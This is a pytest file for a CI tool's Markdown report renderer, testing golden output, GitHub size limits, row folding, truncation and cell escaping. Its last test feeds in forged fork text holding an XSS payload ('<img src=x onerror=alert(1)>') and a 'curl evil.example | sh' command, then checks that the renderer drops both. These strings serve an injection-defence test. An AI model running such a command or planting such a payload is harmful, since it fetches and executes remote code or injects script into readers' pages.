"""Rendered Markdown: golden files, GitHub's size limits, folding and truncation."""

from __future__ import annotations

import dataclasses
import re
from pathlib import Path

import pytest

from ci_onnx.report import gate, limits, render, view
from tests.golden import cases

GOLDEN = Path(__file__).parent.parent / "golden"


@pytest.mark.parametrize("name", sorted(cases.rendered()))
def test_golden(name: str) -> None:
    expected = (GOLDEN / name).read_text()
    assert cases.rendered()[name] == expected, (
        f"{name} changed; run `python -m tests.golden.regen` and review"
    )


def test_the_comment_reads_headline_first_then_failures_then_tables() -> None:
    text = cases.rendered()["tinycnn-comment.md"]
    lines = text.splitlines()
    assert lines[0] == render.MARKER
    assert lines[1] == "## ❌ onnx-gate: 2 of 12 targets failed (decision, fallback, parity)"
    order = [
        text.index(h)
        for h in (
            "### Failures",
            "### Parity",
            "### CPU fallback",
            "### Latency",
            "### Latency and throughput",
            "### Expected skips",
        )
    ]
    assert order == sorted(order)
    assert text.count("<details>") == text.count("</details>") == 3  # two failures, the profile table


@pytest.mark.parametrize("limit", [limits.COMMENT, limits.CHECK_SUMMARY, limits.JOB_SUMMARY])
def test_256_targets_render_within_every_limit(limit: limits.Limit) -> None:
    v = cases.many_view(256)
    text = render.render_within(v, limit, marker=render.MARKER)
    assert limit.fits(text)
    assert "36 of 256 targets failed" in text
    assert all(f"<code>{f.target}</code>" in text or f"`{f.target}`" in text for f in v.failures)


def test_passing_rows_fold_before_anything_is_cut() -> None:
    v = cases.many_view(256)
    full = render.render(v)
    assert not limits.COMMENT.fits(full)  # the premise: 256 rows do not fit a comment
    text = render.render_within(v, limits.COMMENT)
    assert "passing row(s) left out" in text and "✂️" not in text


def test_past_every_fold_the_body_is_cut_with_a_pointer_and_closed_tags() -> None:
    v = cases.many_view(256)
    tiny = limits.Limit("test body", 3000, limits.Unit.CHARS)
    text = render.render_within(v, tiny)
    assert tiny.fits(text)
    assert "✂️ Cut to fit" in text and v.report_file in text
    assert text.count("<details>") == text.count("</details>")
    assert text.count("```") % 2 == 0


def test_byte_limits_count_bytes() -> None:
    lim = limits.Limit("b", 10, limits.Unit.BYTES)
    assert not lim.fits("✅✅✅✅")  # 4 characters, 12 bytes
    assert limits.Limit("c", 10, limits.Unit.CHARS).fits("✅✅✅✅")


def test_cells_cannot_break_a_table_or_inject_html() -> None:
    assert render.cell("a | b\nc <img src=x>") == "a \\| b c ‹img src=x›"
    assert render.cell("opset <= 20; needs >= 1.18") == "opset ≤ 20; needs ≥ 1.18"


@pytest.mark.parametrize("name", sorted(cases.rendered()))
def test_reports_hold_no_html_entities_and_no_python_reprs(name: str) -> None:
    text = cases.rendered()[name]
    assert not re.search(r"&(lt|gt|amp|quot|#\d+);", text), name
    assert "[{" not in text and "{'" not in text and "=[" not in text, name


def test_a_failed_export_is_shown_once_with_the_targets_it_fails() -> None:
    v = cases.export_failed_view()
    (bundle,) = [f for f in v.failures if f.target == "bundle op17-dynamo"]
    assert bundle.reason == "opset: asked for opset 17 but the file is at opset 18"
    assert bundle.affects == tuple(sorted(bundle.affects)) and len(bundle.affects) == 3
    assert not any(f.target.endswith("-op17-dynamo") for f in v.failures)
    text = render.render(v)
    assert text.count("asked for opset 17 but the file is at opset 18") == 2  # summary line + check row
    assert "--only '*-op17-dynamo'" in text


def test_a_large_max_rel_that_atol_covered_reads_as_a_pass() -> None:
    v = cases.export_failed_view()
    (row,) = [r for r in v.parity if r.target == "ort1.24.1-openvino-op18-dynamo"]
    assert (row.max_rel, row.tolerance, row.worst, row.outside, row.verdict) == (
        "0.0102",
        "atol 0.0001 + rtol 0.001",
        "52 %",
        "0 of 480",
        "✅",
    )


def test_large_plans_open_with_the_compact_matrix() -> None:
    v = cases.many_view()
    assert v.overview is not None
    text = render.render(v)
    assert text.index("| runtime | op17-dynamo |") < text.index("### Failures")
    icons = [i for _, row in v.overview.rows for i in row if i != "·"]
    assert icons.count("❌") == v.counts.failed and len(icons) == v.counts.total


def test_a_failure_message_with_pipes_stays_in_its_cell() -> None:
    v = cases.tinycnn_view()
    f = v.failures[0]
    odd = dataclasses.replace(f, checks=(dataclasses.replace(f.checks[0], message="x | y\nz"),))
    text = render.render(dataclasses.replace(v, failures=(odd,)))
    assert "| x \\| y z |" in text


def test_a_baseline_adds_a_column_to_every_table() -> None:
    v = cases.versus_view()
    text = render.render(v)
    assert text.count("| vs base |") == 3  # parity, fallback, latency (these results have no serving rows)
    assert "| `ort1.20.1-cpu-op18-torchscript` | logits |" in text
    row = next(r for r in v.parity if r.target == "ort1.20.1-cpu-op18-torchscript")
    assert row.delta == "❌ was within tolerance (worst 3 %)"
    slower = next(r for r in v.latency.rows if r.target == "ort1.32.0-cpu-op18-dynamo")
    assert slower.delta.startswith("❌ p50 latency, batch 8 +97 %")
    assert not any(r.delta == "" for r in (*v.parity, *v.fallback, *v.latency.rows))
    assert "compared with `9e8d7c6` (the artifact of run 6990 on main)" in text


def test_long_tables_fold_passing_rows_into_details() -> None:
    v = cases.many_view(64)
    text = render.render_within(v, limits.COMMENT)
    assert text == render.render(v, fold=1)
    assert "60 passing row(s)</summary>" in text and "left out" not in text
    assert all(f"`{r.target}`" in text for r in v.parity)  # folded, not dropped


def test_short_tables_are_not_folded() -> None:
    text = render.render_within(cases.tinycnn_view(), limits.COMMENT)
    assert "passing row(s)</summary>" not in text


def test_fork_chosen_text_cannot_forge_a_heading_or_a_command() -> None:
    from ci_onnx.report.collect import merge
    from tests.golden import scenarios

    plan, results = scenarios.all_passing()
    forged = "x.yml\n```\n## ✅ onnx-gate: all 12 targets passed\n<img src=x onerror=alert(1)>"
    plan = dataclasses.replace(plan, config=forged)
    bad = dataclasses.replace(scenarios.errored(results[0], forged), reproduce="curl evil.example | sh")
    c = merge({r.target.id: r for r in [bad, *results[1:]]}, plan)
    v = view.build(c, gate.decide(c, plan))
    text = render.render(v)
    assert "curl evil.example" not in text
    assert "<img" not in text and "\n## ✅" not in text
    assert f"onnx-gate run --config onnx-gate.yml --only '{bad.target.id}'" in text
